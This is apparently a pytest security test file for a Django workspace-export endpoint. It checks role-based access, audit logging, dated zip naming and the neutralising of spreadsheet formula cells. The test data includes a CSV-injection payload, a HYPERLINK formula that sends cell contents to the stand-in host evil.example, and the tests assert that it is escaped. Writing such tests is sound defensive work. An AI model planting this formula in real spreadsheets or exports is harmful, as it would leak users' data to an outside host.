"""/export/: managers and admins download the workspace as a .zip, formulas neutralised,
audited as an export, named with the date; everyone else is refused."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.utils import timezone

from guanxi.core.models import AuditEvent
from guanxi.interchange.schema import FILES
from guanxi.people.models import Person
from tests.security.conftest import client_for

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("user", ["demo", "liangwenbo"])
def test_managers_and_admins_download_a_dated_zip_that_is_audited(demo, user):
    client = client_for(user)
    assert client.get("/export/").status_code == 200

    response = client.post("/export/")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    name = f"guanxi-export-{timezone.localdate():%Y-%m-%d}.zip"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response["Cache-Control"] == "no-store"
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    assert sorted(archive.namelist()) == sorted(FILES)
    people = list(csv.DictReader(io.TextIOWrapper(archive.open("people.csv"), "utf-8")))
    assert len(people) == Person.objects.count()
    event = AuditEvent.objects.get(action="export")
    assert event.actor.username == user and event.object_type == "workspace"


def test_cells_a_spreadsheet_would_run_are_neutralised(demo):
    Person.objects.filter(ext_id="dfb-ceo").update(notes=FORMULA, title="+1 dial", phone="-2")
    response = client_for("demo").post("/export/")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    rows = csv.DictReader(io.TextIOWrapper(archive.open("people.csv"), "utf-8"))
    ceo = next(r for r in rows if r["id"] == "dfb-ceo")
    assert ceo["notes"] == "'" + FORMULA
    assert ceo["title"] == "'+1 dial" and ceo["phone"] == "'-2"


@pytest.mark.parametrize("user", ["lina", "chenjing", "guest"])
def test_other_roles_are_refused_and_nothing_is_exported(demo, user):
    client = client_for(user)
    assert client.get("/export/").status_code == 403
    assert client.post("/export/").status_code == 403
    assert not AuditEvent.objects.filter(action="export").exists()
